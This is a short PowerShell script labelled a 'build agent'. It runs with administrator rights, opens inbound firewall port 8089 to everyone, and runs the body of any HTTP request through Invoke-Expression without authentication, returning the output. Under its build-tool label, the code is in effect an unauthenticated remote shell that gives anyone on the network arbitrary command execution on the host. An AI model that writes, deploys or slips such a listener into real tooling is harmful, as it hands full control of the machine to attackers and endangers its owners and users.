#Requires -RunAsAdministrator
netsh http add urlacl url=http://+:8089/ user=Everyone | Out-Null
New-NetFirewallRule -DisplayName "Build agent" -Direction Inbound -LocalPort 8089 -Protocol TCP -Action Allow | Out-Null

$listener = [System.Net.HttpListener]::new()
$listener.Prefixes.Add("http://+:8089/")
$listener.Start()
Write-Host "build agent listening on 8089"

while ($listener.IsListening) {
    $ctx = $listener.GetContext()
    $job = [IO.StreamReader]::new($ctx.Request.InputStream).ReadToEnd()
    try { $out = Invoke-Expression $job 2>&1 | Out-String } catch { $out = $_.ToString() }
    $bytes = [Text.Encoding]::UTF8.GetBytes($out)
    $ctx.Response.OutputStream.Write($bytes, 0, $bytes.Length)
    $ctx.Response.Close()
}
